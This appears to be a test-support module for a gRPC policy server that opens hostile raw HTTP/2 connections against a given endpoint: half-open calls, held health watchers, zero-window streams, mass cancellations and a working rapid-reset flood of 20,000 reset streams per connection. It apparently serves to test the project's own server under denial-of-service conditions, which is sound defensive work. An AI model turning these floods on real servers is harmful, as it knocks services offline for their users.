"""Clients that use a server's places without letting it work, in raw HTTP/2 where stock gRPC would not do it.

    python -m tests.support.hostile ENDPOINT KIND [SECONDS]

* ``half-open``: calls whose message never comes,
* ``watch``: health watchers,
* ``rapid-reset``: calls that are reset at once, 5 times 20,000,
* ``cancelling``: steps that stock gRPC sends and cancels at once, 200 at a time, without a pause,
* ``never-reading``: calls and streams whose answers are not read.

Each kind holds on for SECONDS (10), and opens again what the server closes.
"""

from __future__ import annotations

import argparse
import os
import socket
import struct
import time
from contextlib import closing, suppress
from typing import Any, Literal

import grpc

from omcda_deploy.protos import policy_pb2
from omcda_deploy.serve.bench.http2 import (
    ACK,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    PING,
    RST_STREAM,
    SETTINGS,
    frame,
    request_headers,
    text,
)

Kind = Literal["half-open", "watch", "rapid-reset", "cancelling", "never-reading"]
KINDS: tuple[Kind, ...] = ("half-open", "watch", "rapid-reset", "cancelling", "never-reading")
ACT, STREAM = "/omcda.v1.PolicyService/Act", "/omcda.v1.PolicyService/ActStream"
WATCH, CHECK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check"
PATIENCE_S = 0.05
BEGUN = "the attack has begun"
CANCEL = 8


class HostileConnection:
    """One TCP connection to a server. ``polite``: acknowledges settings and pings when :meth:`serve` is called."""

    def __init__(self, endpoint: str, *, window: int = 65535) -> None:
        host, _, port = endpoint.rpartition(":")
        self._socket = socket.create_connection((host, int(port)), 10.0)
        self._authority = endpoint
        self._next = 1
        self._buffer = b""
        settings = struct.pack(">HI", 4, window)  # bytes that the server may send on a stream without credit
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, settings))

    def send(self, data: bytes) -> None:
        self._socket.sendall(data)

    def open(self, path: str, message: bytes | None = None, *, more: bool = True) -> int:
        """Begin a call, with one message or none; ``more``: without saying that it is all. Returns its number."""
        number, self._next = self._next, self._next + 2
        self.send(self._call(number, path, message, more))
        return number

    def reset_flood(self, path: str, count: int) -> bytes:
        """Return the bytes that open and reset ``count`` calls of a new connection."""
        headers = self._call(0, path, None, more=True)
        reset = frame(RST_STREAM, 0, 0, struct.pack(">I", CANCEL))
        calls = bytearray((headers + reset) * count)
        size = len(headers) + len(reset)
        for index in range(count):
            for at in (0, len(headers)):
                struct.pack_into(">I", calls, index * size + at + 5, 2 * index + 1)
        return bytes(calls)

    def serve(self, seconds: float) -> bool:
        """Acknowledge what the server asks for during ``seconds``; returns whether it keeps the connection."""
        end = time.monotonic() + seconds
        while (left := end - time.monotonic()) > 0:
            self._socket.settimeout(left)
            try:
                data = self._socket.recv(1 << 16)
            except TimeoutError:
                return True
            except OSError:
                return False
            if not data:
                return False
            self._buffer += data
            self._acknowledge()
        return True

    def _acknowledge(self) -> None:
        while len(self._buffer) >= 9:
            high, low, kind, flags, _ = struct.unpack_from(">HBBBI", self._buffer)
            end = 9 + (high << 8 | low)
            if len(self._buffer) < end:
                return
            payload, self._buffer = self._buffer[9:end], self._buffer[end:]
            if kind in (SETTINGS, PING) and not flags & ACK:
                with suppress(OSError):
                    self.send(frame(kind, ACK, 0, payload if kind == PING else b""))

    def _call(self, number: int, path: str, message: bytes | None, more: bool) -> bytes:
        headers = request_headers(path, self._authority)
        block = b"".join(b"\0" + text(name) + text(value) for name, value in headers)
        call = frame(HEADERS, END_HEADERS, number, block)
        if message is not None:
            body = struct.pack(">BI", 0, len(message)) + message
            call += frame(DATA, 0 if more else END_STREAM, number, body)
        return call

    def close(self) -> None:
        self._socket.close()


def attack(endpoint: str, kind: Kind, seconds: float, connections: int = 6, calls: int = 40) -> None:
    """Attack a server with several connections of ``calls`` calls each, for ``seconds``; print when it begins."""
    end = time.monotonic() + seconds
    if kind in ("rapid-reset", "cancelling"):
        print(BEGUN, flush=True)
    if kind == "rapid-reset":
        flood = HostileConnection(endpoint).reset_flood(ACT, 20_000)
        for _ in range(5):
            with suppress(OSError), closing(HostileConnection(endpoint)) as connection:
                connection.send(flood)
                connection.serve(seconds / 5)
        return
    if kind == "cancelling":
        untyped: Any = grpc.insecure_channel(endpoint)  # never closed: see main
        act = untyped.unary_unary(ACT)
        while time.monotonic() < end:
            for call in [act.future(_step()) for _ in range(200)]:
                call.cancel()
        return
    while time.monotonic() < end:
        held = []
        try:
            for _ in range(connections):
                held.append(HostileConnection(endpoint, window=0 if kind == "never-reading" else 65535))
                _hold(held[-1], kind, calls)
            print(BEGUN, flush=True)
            while time.monotonic() < end and all(connection.serve(PATIENCE_S) for connection in held):
                for connection in held:
                    _hold(connection, kind, 1)
        except OSError:
            pass
        finally:
            for connection in held:
                connection.close()


def _hold(connection: HostileConnection, kind: Kind, calls: int) -> None:
    for index in range(calls):
        if kind == "half-open":
            connection.open((ACT, CHECK)[index % 2])
        elif kind == "watch":
            connection.open(WATCH, b"")
        else:
            connection.open((ACT, STREAM)[index % 2], _step())


def _step() -> bytes:
    return policy_pb2.ActRequest(model="agent_0", batch=1, observation=bytes(16)).SerializeToString()


def main() -> None:
    parser = argparse.ArgumentParser(prog="python -m tests.support.hostile")
    parser.add_argument("endpoint")
    parser.add_argument("kind", choices=KINDS)
    parser.add_argument("seconds", type=float, nargs="?", default=10.0)
    options = parser.parse_args()
    attack(options.endpoint, options.kind, options.seconds)
    # Stock gRPC may wait for ever, on closing a channel, for the end of a call that was cancelled at once.
    os._exit(0)


if __name__ == "__main__":
    main()
